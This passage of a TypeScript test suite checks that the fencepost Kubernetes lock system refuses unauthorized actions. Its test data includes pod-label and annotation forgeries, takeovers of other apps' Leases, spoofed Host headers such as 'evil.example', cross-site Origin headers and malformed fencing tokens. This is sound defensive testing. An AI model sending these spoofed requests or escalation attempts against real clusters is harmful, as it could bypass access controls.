            { namespace: ns, name: 'pod-b', body: { metadata: { labels: { [keys.holder]: 'true' } } } },
            mergePatch,
          ),
    },
    // An agent may change only fencepost's request annotations on its own pod: not its labels
    // (which make it a candidate of another lock) nor the controller's holder marks.
    {
      name: "A relabels its own pod into another lock's candidate selector",
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['metadata.labels', 'an agent may not change'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-a', body: { metadata: { labels: { app: 'payments' } } } },
            mergePatch,
          ),
    },
    {
      name: 'A reports a completed run on its own pod (the old, forgeable path)',
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['metadata.annotations', 'completed-run'],
      call: (kc) =>
        kc.makeApiClient(CoreV1Api).patchNamespacedPod(
          {
            namespace: ns,
            name: 'pod-a',
            body: { metadata: { annotations: { [`${lock}.lock.fencepost.io/completed-run`]: 'run-1' } } },
          },
          mergePatch,
        ),
    },
    {
      name: "A sets an annotation that is not one of fencepost's requests on its own pod",
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['metadata.annotations', 'request'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-a', body: { metadata: { annotations: { 'prometheus.io/scrape': 'false' } } } },
            mergePatch,
          ),
    },
    {
      name: 'A puts a finalizer on its own pod',
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['metadata.finalizers'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-a', body: { metadata: { finalizers: ['example.com/keep'] } } },
            mergePatch,
          ),
    },
    {
      name: 'A creates an Event about pod-b',
      who: 'A',
      pod: 'pod-b',
      code: 403,
      says: ['involvedObject', 'its own pod'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .createNamespacedEvent({ namespace: ns, body: agentEvent('pod-b', 'fencepost-agent') }),
    },
    {
      name: "A creates an Event on its own pod in the controller's name",
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['source', 'fencepost-agent'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .createNamespacedEvent({ namespace: ns, body: agentEvent('pod-a', 'fencepost-controller') }),
    },
    {
      name: 'an unbound agent token annotates a pod',
      who: 'unbound',
      pod: 'pod-b',
      code: 403,
      says: ['pod-bound ServiceAccount token'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-b', body: { metadata: { annotations: { [keys.request]: 'x' } } } },
            mergePatch,
          ),
    },
    {
      name: 'B deletes the holder pod',
      who: 'B',
      pod: 'pod-a',
      code: 403,
      says: ['cannot delete resource "pods"'],
      call: (kc) => kc.makeApiClient(CoreV1Api).deleteNamespacedPod({ namespace: ns, name: 'pod-a' }),
    },
    {
      name: 'B edits the DistributedLock',
      who: 'B',
      pod: 'pod-a',
      code: 403,
      says: ['cannot patch resource "distributedlocks"'],
      call: (kc) =>
        kc.makeApiClient(CustomObjectsApi).patchNamespacedCustomObject(
          {
            group: GROUP,
            version: VERSION,
            namespace: ns,
            plural: PLURAL,
            name: lock,
            body: { spec: { leaseDurationSeconds: 1 } },
          },
          mergePatch,
        ),
    },
    {
      name: 'B deletes the DistributedLock',
      who: 'B',
      pod: 'pod-a',
      code: 403,
      says: ['cannot delete resource "distributedlocks"'],
      call: (kc) =>
        kc
          .makeApiClient(CustomObjectsApi)
          .deleteNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: ns, plural: PLURAL, name: lock }),
    },
  ];

  it.each(podCases)('Pod/lock: $name → $code', async (c) => {
    const count = tally(c.category ?? AGENT_WRITES);
    count.tried++;
    const leaseBefore = (await lease()).metadata?.resourceVersion;
    const before = await podRv(c.pod);
    const r = await failure(() => c.call(as(c.who)));
    expect(r.code, r.message).toBe(c.code);
    for (const s of c.says) expect(r.message).toContain(s);
    expect(await podRv(c.pod), 'the pod changed').toBe(before);
    expect((await lease()).metadata?.resourceVersion, 'the Lease changed').toBe(leaseBefore);
    count.rejected++;
  });

  it('positive controls: the holder renews its own Lease, annotates its own pod, records an Event on its own pod, records a completed run on its own Lease, and releases its own Lease', async () => {
    tally(AGENT_WRITES).controls += 5;
    await asA
      .makeApiClient(CoreV1Api)
      .createNamespacedEvent({ namespace: ns, body: agentEvent('pod-a', 'fencepost-agent') });
    tally(AGENT_WRITES).allowed++;
    const renewed = await leases(asA).replaceNamespacedLease({
      namespace: ns,
      name: lockLease,
      body: renewedLease(await lease(), new Date()),
    });
    expect(renewed.spec?.holderIdentity).toBe(`${holder.name}/${holder.uid}`);
    tally(AGENT_WRITES).allowed++;
    await asA.makeApiClient(CoreV1Api).patchNamespacedPod(
      {
        namespace: ns,
        name: 'pod-a',
        body: { metadata: { uid: holder.uid, annotations: { [keys.runId]: 'run-1' } } },
      },
      mergePatch,
    );
    tally(AGENT_WRITES).allowed++;
    const l = await lease();
    const completed = await leases(asA).replaceNamespacedLease({
      namespace: ns,
      name: lockLease,
      body: completedLease(l, {
        runId: 'run-1',
        token: parseLease(l).token ?? 0n,
        holder: holder.name,
        completedAt: new Date(),
      }),
    });
    expect(parseLease(completed).completedRuns.map((e) => e.runId)).toContain('run-1');
    tally(AGENT_WRITES).allowed++;
    const released = await leases(asA).replaceNamespacedLease({
      namespace: ns,
      name: lockLease,
      body: releasedLease(await lease(), 'Released'),
    });
    expect(released.spec?.holderIdentity).toBeUndefined();
    tally(AGENT_WRITES).allowed++;
  });

  /** Lease writes with the controller's token that are not the protocol's: another app's Leases. */
  const controllerLeaseCases: ReadonlyArray<{
    name: string;
    write: (api: CoordinationV1Api) => Promise<unknown>;
    says: readonly string[];
  }> = [
    {
      name: "creates a Lease that is not a lock's",
      says: ['r-fencepost-controller-leases', 'not ', '/app-leader'],
      write: (api) =>
        api.createNamespacedLease({
          namespace: ns,
          body: { metadata: { name: 'app-leader' }, spec: { holderIdentity: 'r' } },
        }),
    },
    {
      name: "takes over another app's leader-election Lease",
      says: ['r-fencepost-controller-leases', '/other-app-leader'],
      write: async (api) => {
        const l = await api.readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
        return api.replaceNamespacedLease({
          namespace: ns,
          name: 'other-app-leader',
          body: { ...l, spec: { ...l.spec, holderIdentity: 'r-fencepost' } },
        });
      },
    },
    {
      name: "deletes another app's leader-election Lease",
      says: ['r-fencepost-controller-leases', '/other-app-leader'],
      write: (api) => api.deleteNamespacedLease({ namespace: ns, name: 'other-app-leader' }),
    },
    {
      name: 'creates a Lease other than its election Lease in its own namespace (its Role may create there)',
      says: ['r-fencepost-controller-leases', 'leader-election Lease'],
      write: (api) =>
        api.createNamespacedLease({ namespace: releaseNs, body: { metadata: { name: 'not-the-election' }, spec: {} } }),
    },
  ];
  it.each(controllerLeaseCases)("Lease: the controller's token $name → 403", async (c) => {
    tally(CONTROLLER_LEASES).tried++;
    const before = await leases(admin).readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
    const r = await failure(() => c.write(leases(asController)));
    expect(r.code, r.message).toBe(403);
    for (const w of c.says) expect(r.message).toContain(w);
    const after = await leases(admin).readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
    expect(after.metadata?.resourceVersion, 'the Lease changed').toBe(before.metadata?.resourceVersion);
    tally(CONTROLLER_LEASES).rejected++;
  });

  it("positive controls: the controller's token writes a lock's Lease, its election Lease and a pod's holder marks", async () => {
    tally(CONTROLLER_LEASES).controls += 5;
    const api = leases(asController);
    const made = await api.createNamespacedLease({
      namespace: ns,
      body: { metadata: { name: leaseName('control') }, spec: { leaseDurationSeconds: 15 } },
    });
    tally(CONTROLLER_LEASES).allowed++;
    await api.replaceNamespacedLease({
      namespace: ns,
      name: leaseName('control'),
      body: { ...made, spec: { ...made.spec, holderIdentity: 'pod-b/uid' } },
    });
    tally(CONTROLLER_LEASES).allowed++;
    await api.deleteNamespacedLease({ namespace: ns, name: leaseName('control') });
    tally(CONTROLLER_LEASES).allowed++;
    const election = await api.createNamespacedLease({
      namespace: releaseNs,
      body: { metadata: { name: ELECTION_LEASE }, spec: { holderIdentity: 'r-0', leaseDurationSeconds: 15 } },
    });
    tally(CONTROLLER_LEASES).allowed++;
    await api.replaceNamespacedLease({
      namespace: releaseNs,
      name: ELECTION_LEASE,
      body: { ...election, spec: { ...election.spec, renewTime: microTime(new Date()) } },
    });
    tally(CONTROLLER_LEASES).allowed++;

    // A holder's marks for a lock of no consequence here (no DistributedLock "ghost"), put on and
    // taken off again with the uid precondition, as the controller's pod patcher writes them.
    tally(CONTROLLER_PODS).controls += 2;
    const ghost = podKeys('ghost');
    const core = asController.makeApiClient(CoreV1Api);
    const uid = podUids.get('pod-b') ?? '';
    await core.patchNamespacedPod(
      {
        namespace: ns,
        name: 'pod-b',
        body: {
          metadata: {
            uid,
            labels: { [ghost.holder]: 'true' },
            annotations: {
              [ghost.token]: '7',
              [ghost.lease]: leaseName('ghost'),
              [ghost.acquireTime]: new Date().toISOString(),
              [ghost.expireTime]: new Date().toISOString(),
            },
          },
        },
      },
      mergePatch,
    );
    tally(CONTROLLER_PODS).allowed++;
    await core.patchNamespacedPod(
      {
        namespace: ns,
        name: 'pod-b',
        body: {
          metadata: {
            uid,
            labels: { [ghost.holder]: null },
            annotations: {
              [ghost.token]: null,
              [ghost.lease]: null,
              [ghost.acquireTime]: null,
              [ghost.expireTime]: null,
            },
          },
        },
      },
      mergePatch,
    );
    tally(CONTROLLER_PODS).allowed++;
  });

  it("the dashboard answers 404 for objects of no lock (a pod no lock selects, another Lease, Events of no lock), and serves the lock's own", async () => {
    const get = async (path: string): Promise<{ status: number; body: string }> => {
      const r = await fetch(new URL(path, dashboard?.url));
      return { status: r.status, body: await r.text() };
    };
    const refused = [
      `/api/raw/pods/${ns}/vault-0`,
      `/api/raw/pods/${releaseNs}/pod-a`,
      `/api/raw/leases/${ns}/other-app-leader`,
      `/api/raw/leases/${releaseNs}/${ELECTION_LEASE}`,
      `/api/raw/events/${ns}/no-such-lock`,
      `/api/raw/events/${releaseNs}/${lock}`,
    ];
    for (const path of refused) {
      tally(DASHBOARD).tried++;
      const r = await get(path);
      expect(r.status, `${path}: ${r.body.slice(0, 200)}`).toBe(404);
      expect(r.body).not.toContain('example.invalid');
      tally(DASHBOARD).rejected++;
    }
    // The holder now: the positive controls above released pod-a's term, and the lock was granted again.
    const now = await eventually(async () => {
      const h = (await getLease(fx.t, lock))?.spec?.holderIdentity?.split('/')[0];
      expect(h).toBeDefined();
      return h ?? '';
    }, 30_000);
    for (const path of [
      `/api/raw/pods/${ns}/${now}`,
      `/api/raw/leases/${ns}/${lockLease}`,
      `/api/raw/events/${ns}/${lock}`,
    ]) {
      tally(DASHBOARD).controls++;
      // eventually: the dashboard's Lease watch may not have seen the new grant yet.
      await eventually(async () => {
        const r = await get(path);
        expect(r.status, `${path}: ${r.body.slice(0, 200)}`).toBe(200);
      }, 10_000);
      tally(DASHBOARD).allowed++;
    }
  });

  it("the agent's local API refuses a foreign Host, a browser and form or bodiless POSTs, and serves programs", async () => {
    const local = { host: `127.0.0.1:${apiPort}` };
    const json = { ...local, 'content-type': 'application/json' };
    const refuse = async (
      category: string,
      type: string,
      status: number,
      method: string,
      path: string,
      headers: Readonly<Record<string, string>>,
      body?: string,
    ): Promise<void> => {
      tally(category).tried++;
      const a = await sendRaw(apiPort, method, path, headers, body);
      expect(a.status, `${method} ${path} ${JSON.stringify(headers)}: ${a.body}`).toBe(status);
      expect(problemType(a)).toBe(`https://fencepost.io/problems/${type}`);
      tally(category).rejected++;
    };
    for (const host of [
      `evil.example:${apiPort}`,
      'evil.example',
      `127.0.0.1.evil.example:${apiPort}`,
      `10.0.0.1:${apiPort}`,
    ]) {
      await refuse(FOREIGN_HOST, 'foreign-host', 403, 'GET', '/v1/locks/local-api', { host });
      await refuse(FOREIGN_HOST, 'foreign-host', 403, 'GET', '/v1/locks/local-api/events', { host });
      await refuse(
        FOREIGN_HOST,
        'foreign-host',
        403,
        'POST',
        '/v1/locks/local-api/acquire',
        { host, 'content-type': 'application/json' },
        '{}',
      );
    }
    for (const extra of [
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { origin: `http://127.0.0.1:${apiPort}` },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
    ]) {
      await refuse(BROWSER, 'browser-request', 403, 'GET', '/v1/locks/local-api', { ...local, ...extra });
      await refuse(BROWSER, 'browser-request', 403, 'POST', '/v1/locks/local-api/acquire', { ...json, ...extra }, '{}');
    }
    for (const [headers, body] of [
      [local, undefined],
      [{ ...local, 'content-type': 'application/x-www-form-urlencoded' }, 'wait=10s'],
      [{ ...local, 'content-type': 'multipart/form-data; boundary=x' }, '--x--\r\n'],
      [{ ...local, 'content-type': 'text/plain' }, '{}'],
      [json, undefined],
      [json, 'wait=10s'],
    ] as const)
      for (const path of ['/v1/locks/local-api/acquire', '/v1/locks/local-api/release', '/v1/locks/local-api/drained'])
        await refuse(NOT_JSON, 'json-body-required', 415, 'POST', path, headers, body);
    // Nothing of the refused requests reached the pod: it asked for nothing.
    const pod = await fx.t.core.readNamespacedPod({ namespace: ns, name: 'pod-c' });
    expect(pod.metadata?.annotations?.[podKeys('local-api').request]).toBeUndefined();

    for (const category of [FOREIGN_HOST, BROWSER]) tally(category).controls++;
    const read = await sendRaw(apiPort, 'GET', '/v1/locks/local-api', {
      host: `localhost:${apiPort}`,
      'sec-fetch-site': 'none',
    });
    expect(read.status, read.body).toBe(200);
    for (const category of [FOREIGN_HOST, BROWSER]) tally(category).allowed++;
    tally(NOT_JSON).controls += 2;
    const held = await sendRaw(apiPort, 'POST', '/v1/locks/local-api/acquire?wait=30s', json, '{}');
    expect(held.status, held.body).toBe(200);
    tally(NOT_JSON).allowed++;
    const released = await sendRaw(apiPort, 'POST', '/v1/locks/local-api/release', json, '{}');
    expect(released.status, released.body).toBe(200);
    tally(NOT_JSON).allowed++;
  });

  describe('tokens at the Redis guard', () => {
    let client: Redis;
    const key = `badinput:${Date.now()}:data`;
    beforeAll(async () => {
      client = new RedisClient(sharedRedisUrl());
      await redisGuard(client).write(key, '100', 'written with 100');
    });
    afterAll(() => {
      client?.disconnect();
    });

    const malformed: ReadonlyArray<[string, unknown]> = [
      ['negative', '-1'],
      ['a fraction', '1.5'],
      ['NaN', 'NaN'],
      ['hexadecimal', '0x1F'],
      ['leading zeros', '00101'],
      ['a leading space', ' 101'],
      ['an exponent', '1e3'],
      ['empty', ''],
      ['2^63 (above the largest token)', '9223372036854775808'],
      ['twenty digits', '99999999999999999999'],
      ['a JavaScript number', 101],
      ['a word', 'latest'],
    ];
    it.each(malformed)(
      'refuses a token that is %s, before sending anything, and the mark stays',
      async (_what, token) => {
        tally(TOKENS).tried++;
        const guard = redisGuard(client);
        await expect(guard.write(key, token as string, 'forged')).rejects.toThrow(
          /fencing token for badinput:.*(decimal|exceeds)/,
        );
        expect(await guard.highWater(key)).toBe(100n);
        expect(await client.get(key)).toBe('written with 100');
        tally(TOKENS).rejected++;
      },
    );

    it('refuses a stale token (below the mark, by one at 2^53) and never raises the mark', async () => {
      tally(TOKENS).tried += 2;
      const guard = redisGuard(client);
      expect(await guard.write(key, '99', 'stale')).toEqual({ accepted: false, reason: 'stale', highWater: 100n });
      await guard.write(key, '9007199254740993', 'big');
      expect(await guard.write(key, '9007199254740992', 'one below in float64')).toEqual({
        accepted: false,
        reason: 'stale',
        highWater: 9007199254740993n,
      });
      expect(await client.get(key)).toBe('big');
      tally(TOKENS).rejected += 2;
    });
  });

  it('refused every bad input it tried in every class, and passed every positive control', () => {
    for (const category of [
      AGENT_LEASES,
      AGENT_WRITES,
      AGENT_SPEC,
      CONTROLLER_PODS,
      CONTROLLER_LEASES,
      DASHBOARD,
      FOREIGN_HOST,
      BROWSER,
      NOT_JSON,
      TOKENS,
    ]) {
      const c = tally(category);
      expect(c.tried, category).toBeGreaterThan(0);
      expect(c.rejected, category).toBe(c.tried);
      expect(c.allowed, category).toBe(c.controls);
    }
  });
});
